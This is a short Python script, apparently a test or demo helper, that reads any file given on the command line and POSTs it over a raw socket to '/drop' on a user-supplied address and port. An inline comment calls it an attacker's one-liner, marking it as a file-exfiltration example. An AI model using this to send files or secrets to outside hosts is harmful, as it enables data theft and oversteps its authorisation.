# SPDX-License-Identifier: Apache-2.0
"""Posts a file over HTTP: `post_tcp.py ADDRESS PORT FILE`. IPv4 or IPv6."""

import socket
import sys

address, port, name = sys.argv[1:]
with open(name, "rb") as file:  # noqa: PTH123 - an attacker's one-liner, kept as one
    body = file.read()
with socket.create_connection((address, int(port)), timeout=5) as connection:
    connection.sendall(b"POST /drop HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    print("server said:", connection.recv(100))
